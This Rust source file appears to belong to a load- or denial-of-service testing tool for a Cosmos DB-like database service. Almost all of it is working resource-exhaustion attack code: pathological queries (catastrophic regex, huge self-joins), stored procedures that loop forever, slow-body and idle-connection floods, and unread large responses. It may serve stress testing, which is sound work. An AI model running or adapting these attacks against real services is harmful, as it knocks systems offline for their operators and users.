//! Attacks over HTTP.

use std::net::SocketAddr;
use std::time::Duration;

use futures_util::FutureExt as _;
use futures_util::future::BoxFuture;
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use super::{Attack, ITEM, LARGE_QUERY, PAUSE, ResponseCounts, TIMEOUT, Target, note};
use crate::Result;
use crate::connection::Connection;
use crate::cosmos::Requests;
use crate::direct::frames::Known;

const BODY_BYTES: usize = 2_000_000;
/// How long a body is held just before its end.
const HOLD_TIME: Duration = Duration::from_secs(10);
/// Length of the array that queries join with itself: about ten million pairs.
const ELEMENTS: usize = 3_163;

/// Conditions over a row of the two joins; each is expensive in its own way.
const CONDITIONS: [&str; 10] = [
    "RegexMatch(c.t, '(?=(a+)+b)x')",
    "CONTAINS(c.t, CONCAT(c.t, 'b'), true)",
    "REPLACE(c.t, 'a', 'bb') = 'c'",
    "ARRAY_LENGTH(SetUnion(c.xs, c.xs)) = 0",
    "ARRAY_CONTAINS(c.xs, -1)",
    "ARRAY_LENGTH(StringSplit(c.t, 'a')) = 0",
    "VectorDistance(c.xs, c.xs) > 2",
    "ST_INTERSECTS(c.p, c.p) = false",
    "c.t LIKE '%a%a%a%a%a%b'",
    "a + b < 0",
];

const PROCEDURES: [&str; 4] = [
    "function () { const s = 'a'.repeat(1 << 22), t = 'a'.repeat(1 << 21) + 'b'; for (;;) s.lastIndexOf(t); }",
    "function () { for (;;) new Array(1 << 24).fill(0).sort(); }",
    "function () { for (;;) new Float64Array(1 << 22).map(Math.random).sort(); }",
    "function () { const s = 'x'.repeat(1 << 20); for (;;) console.log(s); }",
];

/// Stores the data for the attacks, and notes the session.
pub async fn prepare(control: &mut Connection, requests: &Requests, known: &mut Known) -> Result<()> {
    let ring: Vec<[f64; 2]> = (0..=100)
        .map(|n| f64::from(n % 100) / 50.0 * std::f64::consts::PI)
        .map(|a| [a.cos(), a.sin()])
        .collect();
    let item = json!({
        "id": ITEM,
        "t": "a".repeat(100),
        "xs": vec![1; ELEMENTS],
        "p": { "type": "Polygon", "coordinates": [ring] },
    });
    let created = requests.create_document(ITEM, &item.to_string());
    known.note(&control.expect(201, &created).await?);
    for (number, source) in PROCEDURES.iter().enumerate() {
        control
            .expect(201, &requests.create_procedure(&procedure(number), source))
            .await?;
    }
    Ok(())
}

fn procedure(number: usize) -> String {
    format!("worst{number}")
}

/// The request that the n-th attacker repeats.
fn request(attack: Attack, number: usize, Target { keyed, read_only, .. }: &Target) -> Vec<u8> {
    let joined = "FROM c JOIN a IN c.xs JOIN b IN c.xs";
    match attack {
        Attack::Queries => {
            let condition = CONDITIONS[number % CONDITIONS.len()];
            read_only.query(&format!("SELECT VALUE COUNT(1) {joined} WHERE {condition}"))
        }
        Attack::Groups => read_only.query(&match number % 3 {
            0 => format!("SELECT g AS g, COUNT(1) AS n {joined} JOIN (SELECT VALUE RAND()) AS g GROUP BY g"),
            1 => format!("SELECT DISTINCT VALUE CONCAT(c.t, ToString(RAND())) {joined}"),
            _ => format!("SELECT VALUE CONCAT(c.t, ToString(a)) {joined} ORDER BY c.t"),
        }),
        Attack::Patches => {
            let condition = CONDITIONS[number % CONDITIONS.len()];
            let condition =
                format!("FROM c WHERE EXISTS(SELECT VALUE 1 FROM a IN c.xs JOIN b IN c.xs WHERE {condition})");
            let operations = [json!({ "op": "set", "path": "/n", "value": number })];
            keyed.patch(
                ITEM,
                &json!({ "condition": condition, "operations": operations }).to_string(),
            )
        }
        Attack::Scripts => keyed.execute(&procedure(number % PROCEDURES.len()), ITEM),
        _ => read_only.query(LARGE_QUERY),
    }
}

/// The n-th attacker.
pub fn attacker(attack: Attack, number: usize, target: &Target, responses: ResponseCounts) -> BoxFuture<'static, ()> {
    let address = target.address;
    match attack {
        Attack::Idle => stay(address, responses).boxed(),
        Attack::Bodies => send_body(address, target.keyed.unsigned_head(BODY_BYTES), responses).boxed(),
        Attack::Answers => leave_unread(address, request(attack, number, target), responses).boxed(),
        _ => repeat(address, request(attack, number, target), responses).boxed(),
    }
}

/// Repeats a request, and disconnects when no response comes.
async fn repeat(address: SocketAddr, request: Vec<u8>, responses: ResponseCounts) {
    loop {
        let Ok(mut connection) = Connection::open(address).await else {
            note(&responses, "no connection");
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        loop {
            match tokio::time::timeout(TIMEOUT, connection.ask(&request)).await {
                Ok(Ok(response)) => note(&responses, response.status.to_string()),
                Ok(Err(_)) => {
                    note(&responses, "ended");
                    break;
                }
                Err(_) => {
                    note(&responses, "left");
                    break;
                }
            }
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Requests a large response and does not read it.
async fn leave_unread(address: SocketAddr, request: Vec<u8>, responses: ResponseCounts) {
    loop {
        if let Ok(mut stream) = TcpStream::connect(address).await
            && stream.write_all(&request).await.is_ok()
        {
            note(&responses, "left unread");
            tokio::time::sleep(TIMEOUT).await;
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Sends a large body, with a slow end.
async fn send_body(address: SocketAddr, head: Vec<u8>, responses: ResponseCounts) {
    let body = vec![b' '; BODY_BYTES - 1];
    loop {
        if let Ok(mut stream) = TcpStream::connect(address).await {
            let sent = async {
                stream.write_all(&head).await?;
                stream.write_all(&body).await
            };
            match tokio::time::timeout(TIMEOUT, sent).await {
                Ok(Ok(())) => {
                    note(&responses, "body taken");
                    tokio::time::sleep(HOLD_TIME).await;
                }
                _ => note(&responses, "body refused"),
            }
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Connects, sends nothing, and reconnects when the connection is ended.
async fn stay(address: SocketAddr, responses: ResponseCounts) {
    loop {
        if let Ok(mut stream) = TcpStream::connect(address).await {
            // Ends when the server ends the connection.
            let _ = stream.read(&mut [0; 64]).await;
            note(&responses, "sent away");
        }
        tokio::time::sleep(PAUSE).await;
    }
}
